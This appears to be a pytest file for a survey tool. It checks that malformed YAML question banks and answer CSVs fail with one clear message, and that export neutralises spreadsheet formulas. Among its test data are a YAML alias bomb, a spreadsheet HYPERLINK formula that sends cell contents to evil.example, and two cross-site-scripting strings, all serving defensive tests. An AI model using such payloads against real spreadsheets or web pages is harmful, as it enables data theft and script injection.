"""Hostile and malformed inputs: every bad bank or CSV is one clear message, never a traceback.

The corpus lives in tests/data/malformed/ (banks/*.yaml, csv/*.csv); the one
too-large bank is written at test time rather than committed.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

import common.yamlfile
import scoring.answers
from common.catalogue import TOO_COMPLEX, TOO_LARGE
from common.yamlfile import MAX_FILE_BYTES, parse_yaml, read_yaml
from questions import load_instrument
from reports.exports import answers_csv
from scoring.answers import AnswersError, parse_answers
from tests.support.cli import ROOT, run_module

MALFORMED = Path(__file__).resolve().parents[1] / "data" / "malformed"
BANKS = MALFORMED / "banks"
CSVS = MALFORMED / "csv"

#: Each bad bank and a code its check must report.
BAD_BANKS: dict[str, str] = {
    "alias-bomb.yaml": "E107",
    "binary-garbage.yaml": "E101",
    "comments-only.yaml": "E104",
    "deeply-nested.yaml": "E107",
    "deeply-nested-block.yaml": "E107",
    "duplicate-ids.yaml": "E205",
    "duplicate-keys.yaml": "E106",
    "empty.yaml": "E104",
    "latin-1.yaml": "E101",
    "only-a-list.yaml": "E105",
    "python-tag.yaml": "E103",
    "scalar.yaml": "E105",
    "tabs.yaml": "E102",
    "truncated.yaml": "E102",
    "unknown-keys.yaml": "E201",
    "utf-16.yaml": "E101",
    "wrong-types.yaml": "E203",
}

#: Each bad CSV and where its one line must point (file-level problems have no field).
BAD_CSVS: dict[str, str] = {
    "bad-answers.csv": "row 3, field 'answer'",
    "binary.csv": "row 1:",
    "blank-respondent.csv": "row 2, field 'respondent_id'",
    "duplicate-rows.csv": "row 3, field 'question_id'",
    "empty.csv": "the file is empty",
    "missing-columns.csv": "row 1, field 'question_id'",
    "semicolons.csv": "row 1, field 'respondent_id;question_id;answer'",
    "short-row.csv": "row 3, field 'answer'",
    "unknown-question.csv": "row 3, field 'question_id'",
    "utf-16.csv": "row 1:",
    "windows-1252.csv": "row 2, field 'evidence'",
    "xlsx-disguised.csv": "row 1:",
}

#: Malformed-looking CSVs that are data, not mistakes: they must be accepted.
OK_CSVS = (
    "header-only.csv",
    "ok-crlf-bom.csv",
    "ok-formula-injection.csv",
    "ok-long-field.csv",
    "ok-script-injection.csv",
)

_ISSUE_LINE = re.compile(r"^(?P<file>.+):(?P<line>\d+): (?P<code>[EW]\d{3}) \S")


@pytest.fixture(scope="module")
def shipped_bank():
    bank = load_instrument().bank
    assert bank is not None
    return bank


@pytest.fixture
def huge_bank(tmp_path: Path) -> Path:
    """A 3 MB bank: the shipped bank padded with comments (generated, never committed)."""
    path = tmp_path / "huge.yaml"
    bank = (ROOT / "questions" / "bank.yaml").read_bytes()
    padding = b"# " + b"x" * (3 * 1024 * 1024 - len(bank) - 3) + b"\n"
    path.write_bytes(bank + padding)
    assert path.stat().st_size == 3 * 1024 * 1024
    return path


def test_the_corpus_is_complete():
    assert sorted(p.name for p in BANKS.glob("*.yaml")) == sorted(BAD_BANKS)
    assert sorted(p.name for p in CSVS.glob("*.csv")) == sorted(
        [*BAD_CSVS, *OK_CSVS, "unclosed-quote.csv"]
    )


# --- Banks -------------------------------------------------------------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(BAD_BANKS))
def test_bad_bank_fails_check_with_located_lines(name: str):
    path = (BANKS / name).relative_to(ROOT)
    result = run_module("questions", "check", path)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert lines, result.stderr
    for line in lines:
        match = _ISSUE_LINE.match(line)
        assert match, line
        assert match["file"] == str(path)
    assert BAD_BANKS[name] in {_ISSUE_LINE.match(line)["code"] for line in lines}  # type: ignore[index]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("name", sorted(BAD_BANKS))
def test_bad_bank_loads_as_issues_never_raises(name: str):
    instrument = load_instrument(BANKS / name)
    assert not instrument.ok
    assert instrument.bank is None
    assert BAD_BANKS[name] in {i.code for i in instrument.issues}


def test_python_tag_is_refused_not_run():
    doc, issues = read_yaml(BANKS / "python-tag.yaml")
    assert [i.code for i in issues] == ["E103"]
    assert doc is not None
    assert doc.data["scale"] is None


@pytest.mark.timeout(5)
def test_billion_laughs_is_refused():
    raw = (BANKS / "alias-bomb.yaml").read_bytes()
    assert raw.count(b"*") >= 9 * 8  # nine aliases on each of eight levels: 9**9 leaves
    doc, issues = parse_yaml(raw, "bomb.yaml")
    assert [i.code for i in issues] == [TOO_COMPLEX.code]
    assert doc is not None  # parsing finished, with the content cut short


@pytest.mark.timeout(5)
def test_nesting_beyond_the_stack_is_refused_not_a_recursion_error():
    doc, issues = parse_yaml(b"[" * 50_000 + b"]" * 50_000, "deep.yaml")
    assert doc is None
    assert [(i.code, i.line) for i in issues] == [(TOO_COMPLEX.code, 1)]


@pytest.mark.timeout(5)
def test_huge_bank_is_refused_before_parsing(huge_bank: Path):
    doc, issues = read_yaml(huge_bank, "huge.yaml")
    assert doc is None
    assert [i.code for i in issues] == [TOO_LARGE.code]
    assert "3.0 MB" in issues[0].message
    assert "2.0 MB" in issues[0].message
    assert issues[0].fix.startswith("please either")
    assert [i.code for i in parse_yaml(huge_bank.read_bytes(), "huge.yaml")[1]] == ["E108"]


@pytest.mark.timeout(60)
def test_huge_bank_and_corpus_fail_check(huge_bank: Path):
    result = run_module("questions", "check", huge_bank)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    first = result.stdout.splitlines()[0]
    assert re.match(r".*huge\.yaml:1: E108 the file is 3\.0 MB .* over the limit of 2\.0 MB", first)
    corpus = load_instrument(None, huge_bank)
    assert "E108" in {i.code for i in corpus.issues}


def test_size_limit_is_a_setting(monkeypatch: pytest.MonkeyPatch):
    assert MAX_FILE_BYTES == 2 * 1024 * 1024
    shipped = (ROOT / "questions" / "bank.yaml").read_bytes()
    assert parse_yaml(shipped, "bank.yaml")[0] is not None
    monkeypatch.setattr(common.yamlfile, "MAX_FILE_BYTES", len(shipped) - 1)
    assert [i.code for i in parse_yaml(shipped, "bank.yaml")[1]] == ["E108"]


# --- Answers CSVs ------------------------------------------------------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "name",
    [*sorted(BAD_CSVS), "unclosed-quote.csv"],
)
def test_bad_csv_fails_score_with_one_line(name: str):
    path = (CSVS / name).relative_to(ROOT)
    result = run_module("scoring", "score", "--responses", path)
    assert result.returncode == 1, result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"{path}: ")
    assert BAD_CSVS.get(name, "row") in lines[0]


@pytest.mark.parametrize("name", OK_CSVS)
def test_odd_but_valid_csv_is_accepted(name: str, shipped_bank):
    frame = parse_answers((CSVS / name).read_bytes(), name, shipped_bank)
    assert len(frame) == (0 if name == "header-only.csv" else 2 - (name == "ok-long-field.csv"))


def test_crlf_and_bom_keep_values_clean(shipped_bank):
    frame = parse_answers((CSVS / "ok-crlf-bom.csv").read_bytes(), "crlf.csv", shipped_bank)
    assert list(frame.columns) == ["respondent_id", "question_id", "answer", "evidence"]
    assert list(frame["evidence"]) == ["Minutes of 3 May", ""]
    assert list(frame.index) == [2, 3]


def test_very_long_field_stays_whole(shipped_bank):
    frame = parse_answers((CSVS / "ok-long-field.csv").read_bytes(), "long.csv", shipped_bank)
    assert frame["evidence"].iat[0] == "long evidence " * 10000


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SCRIPTS = ("<script>alert('x')</script>", "<img src=x onerror=alert(1)>")


def test_injection_text_comes_back_unchanged(shipped_bank):
    formula = parse_answers((CSVS / "ok-formula-injection.csv").read_bytes(), "f.csv", shipped_bank)
    assert list(formula["evidence"]) == [FORMULA, "+1+1"]
    script = parse_answers((CSVS / "ok-script-injection.csv").read_bytes(), "s.csv", shipped_bank)
    assert list(script["evidence"]) == list(SCRIPTS)


def test_export_guards_formulas_and_keeps_markup_as_text(shipped_bank):
    formula = parse_answers((CSVS / "ok-formula-injection.csv").read_bytes(), "f.csv", shipped_bank)
    exported = answers_csv(formula)
    again = parse_answers(exported, "export.csv", shipped_bank)
    assert list(again["evidence"]) == ["'" + FORMULA, "'+1+1"]
    script = parse_answers((CSVS / "ok-script-injection.csv").read_bytes(), "s.csv", shipped_bank)
    assert list(parse_answers(answers_csv(script), "e.csv")["evidence"]) == list(SCRIPTS)


# --- Row limit ---------------------------------------------------------------


def test_row_limit_is_a_million():
    assert scoring.answers.MAX_ROWS == 1_000_000


@pytest.mark.parametrize("quoted", [False, True], ids=["fast reader", "csv module"])
def test_rows_over_the_limit_are_refused_naming_it(monkeypatch: pytest.MonkeyPatch, quoted: bool):
    monkeypatch.setattr(scoring.answers, "MAX_ROWS", 3)
    q = '"' if quoted else ""
    rows = [f"{q}r{i}{q},P1.1,3" for i in range(1, 5)]
    header = "respondent_id,question_id,answer"
    assert len(parse_answers(("\n".join([header, *rows[:3]]) + "\n").encode())) == 3
    with pytest.raises(AnswersError) as caught:
        parse_answers(("\n".join([header, *rows]) + "\n").encode(), "big.csv")
    assert caught.value.row == 5
    assert "more than 3 answer rows" in str(caught.value)
    assert str(caught.value).startswith("big.csv: row 5: ")


def test_an_earlier_mistake_is_reported_before_the_row_limit(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(scoring.answers, "MAX_ROWS", 3)
    data = b"respondent_id,question_id,answer\nr1,P1.1,9\nr2,P1.1,3\nr3,P1.1,3\nr4,P1.1,3\n"
    with pytest.raises(AnswersError) as caught:
        parse_answers(data, "big.csv")
    assert (caught.value.row, caught.value.field) == (2, "answer")


# --- Streamlit upload limit --------------------------------------------------


def test_streamlit_upload_limit_matches_the_pages():
    import tomllib

    from ui.comparison.view import UPLOAD_MB as COMPARE_MB
    from ui.workshop.facilitation import UPLOAD_MB as PAPER_MB

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == max(COMPARE_MB, PAPER_MB) == 20
